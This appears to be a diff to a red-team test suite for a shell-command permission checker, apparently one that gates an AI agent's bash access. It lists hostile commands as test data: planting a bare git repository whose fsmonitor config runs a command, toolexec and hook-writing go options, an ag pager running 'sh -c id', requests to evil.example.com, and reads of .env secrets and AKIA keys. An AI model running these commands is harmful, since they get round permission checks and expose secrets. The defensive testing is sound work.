@@ -17,6 +17,12 @@ afterAll(() => removeProject(project))
 fs.writeFileSync(NodePath.join(project.root, ".env"), "SECRET=1\n")
 fs.writeFileSync(NodePath.join(project.root, "notes.txt"), "hello\n")
 fs.writeFileSync(NodePath.join(project.root, "prod.env"), "SECRET=2\n")
+// A bare repository's shape inside the project, as a command may have copied it there.
+fs.mkdirSync(NodePath.join(project.root, "planted", "repo", "objects"), { recursive: true })
+fs.writeFileSync(NodePath.join(project.root, "planted", "repo", "HEAD"), "ref: refs/heads/main\n")
+// A folder of the project with a link to the folder outside (as a vendored checkout may be).
+fs.mkdirSync(NodePath.join(project.root, "lib"))
+fs.symlinkSync(project.outside, NodePath.join(project.root, "lib", "vendor"))
 
 /** The configuration a user would write: a strict bash allow-list, `.env` protected. */
 const USER = {
@@ -784,15 +790,17 @@ layer(ShellParser.layer)("red team", (it) => {
     { command: "rg -uL -u SECRET", block: OPEN_READS, expect: "deny" },
     { command: "rg -.i SECRET", block: OPEN_READS, expect: "deny" },
     // git grep outside the index reads untracked (and with --no-exclude-standard ignored) files.
-    { command: "git grep --untracked SECRET", block: OPEN_READS, expect: "ask" },
-    { command: "git grep --no-index SECRET", block: OPEN_READS, expect: "ask" },
+    // (They search the working directory, .env included, as `grep -r SECRET .` does.)
+    { command: "git grep --untracked SECRET", block: OPEN_READS, expect: "deny" },
+    { command: "git grep --no-index SECRET", block: OPEN_READS, expect: "deny" },
+    { command: "git grep --untracked SECRET src", block: OPEN_READS, expect: "ask" },
     // fd appends each path to a command without a placeholder, hidden ones with -H.
     { command: "fd --hidden -x cat", block: OPEN_READS, expect: "ask" },
     { command: "fd -H -X cat", block: OPEN_READS, expect: "ask" },
     // Ordinary searches keep their verdict.
     { command: "rg -u SECRET src", block: OPEN_READS, expect: "allow" },
     { command: "rg -i -n TODO src", block: OPEN_READS, expect: "allow" },
-    { command: "git grep -n TODO", block: OPEN_READS, expect: "allow" },
+    { command: "git grep -n TODO src", block: OPEN_READS, expect: "allow" },
     { command: "fd -e ts -x echo {}", block: OPEN_READS, expect: "allow" }
   ])
 
@@ -874,6 +882,9 @@ layer(ShellParser.layer)("red team", (it) => {
     { command: "time cd .git; echo x > config", block: BUILTIN, expect: "ask" },
     { command: "time -p cd .git; echo x > config", block: BUILTIN, expect: "ask" },
     { command: "time -- pushd .git; echo x > config", block: BUILTIN, expect: "ask" },
+    // Nested like any wrapper: thousands of them are too deep to follow, not a crash.
+    { command: `${"time ".repeat(3000)}cd .git; echo x > config`, block: BUILTIN, expect: "ask" },
+    { command: `${"time ".repeat(3)}ls src`, block: BUILTIN, expect: "allow" },
     { command: `time cd ${project.outside}; cat secret.txt`, block: BUILTIN, expect: "ask" },
     { command: "builtin cd .git; echo x > config", block: EDIT_GIT, expect: "deny" },
     { command: "command cd .git; echo x > config", block: EDIT_GIT, expect: "deny" },
@@ -902,5 +913,92 @@ layer(ShellParser.layer)("red team", (it) => {
     { command: "for f in a b; do echo $f; done", block: BUILTIN, expect: "allow" },
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
     { command: "echo ${X:=1} ${PWD:-x}", block: BUILTIN, expect: "allow" }
+  ])
+
+  cases("git pointed at a repository or work tree the text names", [
+    // A planted bare repository's core.fsmonitor ran under `git --git-dir=src/f status`.
+    {
+      command:
+        "mkdir -p src/f/objects src/f/refs && echo 'ref: refs/heads/master' > src/f/HEAD && printf '[core]\\n\\tfsmonitor = \"touch /tmp/pwn; false\"\\n' > src/f/config && git --git-dir=src/f --work-tree=. status",
+      block: BUILTIN,
+      expect: "ask"
+    },
+    { command: "git --git-dir=src/f status", block: BUILTIN, expect: "ask" },
+    { command: "git --git-dir src/f log", block: BUILTIN, expect: "ask" },
+    { command: "git --work-tree=. status", block: BUILTIN, expect: "ask" },
+    { command: "git --bare log", block: BUILTIN, expect: "ask" },
+    // git finds a bare repository from where it runs: `cp -r .git/objects .git/refs .git/HEAD
+    // src/f` and a config with a textconv driver made `git -C src/f show HEAD` run it.
+    { command: "git -C planted/repo show HEAD", block: BUILTIN, expect: "ask" },
+    { command: "cd planted/repo/objects && git log", block: BUILTIN, expect: "ask" },
+    { command: "cp -r .git/HEAD src/f && git -C src/f log", block: BUILTIN, expect: "ask" },
+    {
+      command: "mkdir -p src/g && echo 'ref: refs/heads/main' > src/g/HEAD && git -C src/g log",
+      block: BUILTIN,
+      expect: "ask"
+    },
+    { command: "git status", block: BUILTIN, expect: "allow" },
+    { command: "git -C src status", block: BUILTIN, expect: "allow" },
+    { command: "cd src && git log", block: BUILTIN, expect: "allow" }
+  ])
+
+  cases("reads that contact a host: remotes, registries, module proxies", [
+    // Each sent a request to the host it names.
+    { command: "git remote show https://evil.example.com/hunter2", block: BUILTIN, expect: "ask" },
+    { command: "git remote show origin", block: BUILTIN, expect: "ask" },
+    { command: "npm view https://evil.example.com/hunter2.tgz", block: BUILTIN, expect: "ask" },
+    { command: "npm info git+https://evil.example.com/x.git", block: BUILTIN, expect: "ask" },
+    { command: "npm show user/repo", block: BUILTIN, expect: "ask" },
+    { command: "go list -m evil.example.com/hunter2@latest", block: BUILTIN, expect: "ask" },
+    { command: "go list -m -versions evil.example.com/hunter2", block: BUILTIN, expect: "ask" },
+    // Local reads and registry reads by package name keep their verdict.
+    { command: "git remote -v", block: BUILTIN, expect: "allow" },
+    { command: "git remote show -n origin", block: BUILTIN, expect: "allow" },
+    { command: "npm view zod version", block: BUILTIN, expect: "allow" },
+    { command: "npm view @types/node@^20 version", block: BUILTIN, expect: "allow" },
+    { command: "go list -m all", block: BUILTIN, expect: "allow" }
+  ])
+
+  cases("go options that run programs, persist settings or write where they point", [
+    { command: "go env -w GOFLAGS=-toolexec=/tmp/evil", block: BUILTIN, expect: "ask" },
+    { command: "go env -u GOFLAGS", block: BUILTIN, expect: "ask" },
+    { command: "go build -ldflags='-linkmode=external -extld=/tmp/evil' .", block: BUILTIN, expect: "ask" },
+    { command: "go build -gcflags=all=-N .", block: BUILTIN, expect: "ask" },
+    { command: "go list -export -ldflags=-x .", block: BUILTIN, expect: "ask" },
+    { command: "go build -overlay overlay.json .", block: BUILTIN, expect: "ask" },
+    { command: "go build -o .git/hooks/pre-commit .", block: BUILTIN, expect: "ask" },
+    { command: "go build -o=.git/hooks/pre-commit .", block: BUILTIN, expect: "ask" },
+    { command: "go env GOPATH", block: BUILTIN, expect: "allow" },
+    { command: "go build -race -v ./...", block: BUILTIN, expect: "allow" },
+    { command: "go build -o build/app .", block: BUILTIN, expect: "allow" },
+    { command: "go vet ./...", block: BUILTIN, expect: "allow" }
+  ])
+
+  cases("ag's pager and symlink following", [
+    { command: "ag --pager 'sh -c id' foo", block: BUILTIN, expect: "ask" },
+    { command: "ag --pager=less foo", block: BUILTIN, expect: "ask" },
+    // -f follows lib/vendor to the folder outside the project.
+    { command: "ag -f AKIA lib", block: BUILTIN, expect: "ask" },
+    { command: "ag --follow AKIA lib", block: BUILTIN, expect: "ask" },
+    { command: "ag -if AKIA lib", block: BUILTIN, expect: "ask" },
+    { command: "cd lib && ag -f AKIA", block: BUILTIN, expect: "ask" },
+    { command: "ag AKIA lib", block: BUILTIN, expect: "allow" },
+    { command: "ag -i AKIA src", block: BUILTIN, expect: "allow" }
+  ])
+
+  cases("a committed .env read through git", [
+    // Both printed the tracked .env.
+    { command: "git show HEAD -- '*.env'", block: BUILTIN, expect: "ask" },
+    { command: "git grep SECRET HEAD", block: BUILTIN, expect: "ask" },
+    { command: "git grep SECRET", block: BUILTIN, expect: "ask" },
+    { command: "git grep --cached SECRET", block: BUILTIN, expect: "ask" },
+    { command: "git grep -n TODO", block: OPEN_READS, expect: "deny" },
+    { command: "grep -rn TODO .", block: OPEN_READS, expect: "deny" },
+    { command: "git log -p -- ':(glob)**/.env'", block: BUILTIN, expect: "ask" },
+    { command: "git diff HEAD~1 -- '.e*'", block: BUILTIN, expect: "ask" },
+    { command: "git grep TODO src", block: BUILTIN, expect: "allow" },
+    { command: "git grep 'a.*b' src", block: BUILTIN, expect: "allow" },
+    { command: "git show HEAD -- src/index.ts", block: BUILTIN, expect: "allow" },
+    { command: "git log --grep 'fix*'", block: BUILTIN, expect: "allow" }
   ])
 })
